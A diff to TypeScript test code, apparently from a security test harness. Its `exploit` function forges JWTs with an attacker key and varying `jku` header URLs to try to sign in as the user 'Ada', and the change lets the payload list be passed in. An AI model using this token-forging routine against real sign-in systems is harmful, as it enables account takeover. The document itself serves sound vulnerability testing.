@@ -87,9 +87,9 @@ export async function works(code: Code) {
   for (const token of refused) await assert.rejects(signIn(token), code.Refused)
 }
 
-export async function exploit(code: Code): Promise<boolean> {
+export async function exploit(code: Code, _vary?: unknown, payloads = Object.keys(served).slice(1)): Promise<boolean> {
   const signIn = start(code)
-  for (const jku of Object.keys(served).slice(1)) {
+  for (const jku of payloads) {
     const user = await signIn(await make(evil, { jku })).catch(() => undefined)
     if (user?.name === 'Ada') return true
   }
